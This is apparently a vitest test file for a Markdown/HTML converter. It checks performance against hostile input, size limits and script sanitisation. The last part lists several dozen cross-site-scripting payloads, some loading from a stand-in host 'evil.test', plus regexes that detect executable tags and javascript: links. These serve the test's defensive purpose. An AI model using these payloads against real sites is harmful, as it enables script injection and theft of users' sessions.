import { cpuUsage } from 'node:process';
import { expect, test } from 'vitest';
import { baseOf, isBodyChanged } from '../../src/markup/merge/body-base.ts';
import type { Finding } from '../../src/markup/meaning/body.ts';
import { mergeBodies } from '../../src/markup/merge/merge-bodies.ts';
import { plainRefs } from '../../src/markup/meaning/refs.ts';
import { spellHtml } from '../../src/markup/spell/spell-html.ts';
import { spellMarkdown } from '../../src/markup/spell/spell-markdown.ts';
import { weave } from '../../src/markup/merge/words.ts';
import { type Hostile, hostileHtml, hostileMarkdown, hostileText } from './helpers/hostile.ts';
import { html, markdown } from './helpers/meaning.ts';
import { some } from '../helpers/long.ts';

const markdownTexts = Object.entries(hostileMarkdown);
const htmlTexts = Object.entries(hostileHtml);

/** Everything that happens to a file on its way to the remote, and to a body on its way into a file. */
const pushed = (text: string): string => spellHtml(html(''), markdown(text).blocks, plainRefs);
const pulled = (text: string): string => spellMarkdown(markdown(''), html(text).blocks, plainRefs);

function millisecondsOf(work: () => unknown): number {
  const before = cpuUsage();
  work();
  const { user, system } = cpuUsage(before);
  return (user + system) / 1000;
}

/**
 * How many times as much work four times the text makes: about 4 where work grows with the length, 16 where it grows
 * with its square. The best of some tries, for a test machine has other things to do.
 */
function growth(hostile: Hostile, convert: (text: string) => unknown): number {
  const [short, long] = [hostileText(hostile, 8000), hostileText(hostile, 32_000)];
  let best = Infinity;
  for (let attempt = 0; attempt < 10 && best > 9; attempt += 1) {
    const little = millisecondsOf(() => convert(short));
    best = Math.min(best, millisecondsOf(() => convert(long)) / Math.max(little, 2));
  }
  return best;
}

// One in six in the gate, and all of them where there is time.
test.each(some(markdownTexts, 6))('work on Markdown grows no faster than the text: %s', (_, hostile) => {
  expect(growth(hostile, pushed)).toBeLessThan(9);
});

test.each(some(htmlTexts, 6))('work on HTML grows no faster than the text: %s', (_, hostile) => {
  expect(growth(hostile, pulled)).toBeLessThan(9);
});

const isRefusal = ({ code }: Finding): boolean => code === 'BODY_TOO_LARGE' || code === 'BODY_TOO_COMPLEX';

test('a megabyte of hostile text is read or refused at a line, and either way merges as what it is', () => {
  let refusals = 0;
  for (const [name, hostile] of markdownTexts.filter((_, at) => at % 12 === 0)) {
    const body = markdown(hostileText(hostile, 1_500_000));
    const refused = body.findings.find(isRefusal);
    if (refused !== undefined) {
      refusals += 1;
      expect({ name, severity: refused.severity }).toEqual({ name, severity: 'error' });
      expect(refused.line).toBeGreaterThan(0);
      expect(body.blocks).toHaveLength(1);
    }
    const base = baseOf(body, body);
    expect(isBodyChanged(base, body)).toBe(false);
    expect(mergeBodies(base, body, { ...body, blocks: body.blocks.slice(1) }).kind).toBe('clean');
  }
  expect(refusals).toBeGreaterThan(3);
});

test.each<readonly [string, string, string]>([
  ['lines', 'a\n'.repeat(299_999), 'a\n'.repeat(300_002)],
  ['signs', '*a '.repeat(149_900), '*a '.repeat(150_001)],
  ['blocks', 'a\n\n'.repeat(24_900), 'a\n\n'.repeat(25_001)],
  ['cells', `|a|\n|-|\n${'|b|\n'.repeat(24_900)}`, `|a|\n|-|\n${'|b|\n'.repeat(25_001)}`],
  ['blocks of raw HTML', '<h1>a</h1>'.repeat(24_900), '<h1>a</h1>'.repeat(25_001)],
  ['levels of blocks', `${'>'.repeat(99)}a`, `${'>'.repeat(101)}a`],
  ['levels of emphasis', `${'*'.repeat(180)}a${'*'.repeat(180)}`, `${'*'.repeat(220)}a${'*'.repeat(220)}`],
  ['letters', 'a'.repeat(4_194_304), 'a'.repeat(4_194_305)],
])('the most %s that a Markdown body may have is the same on every machine', (_, most, more) => {
  expect(markdown(most).findings.filter(isRefusal)).toEqual([]);
  expect(markdown(more).findings.filter(isRefusal)).toHaveLength(1);
});

test.each<readonly [string, string, string]>([
  ['tags', '<i></i>'.repeat(49_900), '<i></i>'.repeat(50_001)],
  ['signs', `<p>${'* '.repeat(149_900)}</p>`, `<p>${'* '.repeat(150_001)}</p>`],
  ['blocks', '<p>a'.repeat(24_900), '<p>a'.repeat(25_001)],
  ['cells', `<table><tr>${'<td>'.repeat(24_900)}</table>`, `<table><tr>${'<td>'.repeat(25_001)}</table>`],
  [
    'declarations',
    `<p style="${'abcde:f;'.repeat(999)}">a</p>`,
    `<p style="${'abcde:f;'.repeat(1001)}">a</p>`,
  ],
  [
    'declarations in all',
    `<p style="${'abcde:f;'.repeat(500)}">a</p>`.repeat(98),
    `<p style="${'abcde:f;'.repeat(500)}">a</p>`.repeat(102),
  ],
  ['levels of tags', `${'<div>'.repeat(199)}a`, `${'<div>'.repeat(201)}a`],
  [
    'unclosed marks',
    `${'<b>'.repeat(10)}${'<p>x'.repeat(9000)}`,
    `${'<b>'.repeat(20)}${'<p>x'.repeat(9000)}`,
  ],
])('the most %s that an HTML body may have is the same on every machine', (_, most, more) => {
  expect(html(most).findings.filter(isRefusal)).toEqual([]);
  expect(html(more).findings.filter(isRefusal)).toHaveLength(1);
});

test('a block of more words than anybody reads is not woven, but taken as it is', () => {
  const words = (piece: string): string => `${piece} `.repeat(11_000).trim();
  expect(weave(words('a'), words('a'), words('b'), 'strict')).toBeNull();
  expect(weave('a b c', 'a b d', 'x b c', 'strict')).toBe('x b d');
});

// What is tried again and again to get scripts past converters; each in Markdown and in HTML.
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img/onerror=alert(1) src=x>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></p><script>alert(1)</script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.test/"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="java\u200bscript:alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<div style="behavior: url(#x)">x</div>',
  '<style>@import "javascript:alert(1)";</style>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details ontoggle=alert(1) open>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<video poster="javascript:alert(1)"></video>',
  '<body onload=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td background="javascript:alert(1)">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x onclick=alert(1)>x</x>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<isindex action="javascript:alert(1)">',
  '<input onfocus=alert(1) autofocus>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#x6A;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x)',
  '![x](javascript:alert(1))',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[x](  javascript:alert(1))',
  '<!-- button -->\n[x](javascript:alert(1))',
  '![x](data:text/html,x)',
  '[x](jav\\ascript:alert(1))',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
];
const runningTag =
  /<(?:script|svg|math|object|embed|style|link|meta|base|form|input|template|noscript|textarea|marquee)\b|<[^>]*\son[a-z]+\s*=|(?:href|src)\s*=\s*["']?\s*(?:javascript|vbscript|data)\s*:|<[^>]*(?:expression\s*\(|srcdoc)/iu;
const runningLink = /\]\(\s*<?\s*(?:javascript|vbscript|data):|\]:\s*<?(?:javascript|vbscript|data):/iu;

test.each(attacks)('nothing that runs gets through: %s', (attack) => {
  for (const body of [
    markdown(attack),
    html(attack),
    markdown(`- a\n- ${attack}`),
    html(`<ul><li>${attack}</li></ul>`),
  ]) {
    const sent = spellHtml(html(''), body.blocks, plainRefs);
    const written = spellMarkdown(markdown(''), body.blocks, plainRefs);
    expect(sent).not.toMatch(runningTag);
    // Escaped or in code it is text and no tag.
    const bare = written.replace(/\\[!-/:-@[-`{-~]/gu, '');
    expect(bare).not.toMatch(runningTag);
    expect(bare).not.toMatch(runningLink);
    expect(html(sent).findings.filter(({ code }) => code.startsWith('UNSAFE'))).toEqual([]);
    expect(markdown(written).findings.filter(({ code }) => code.startsWith('UNSAFE'))).toEqual([]);
  }
});
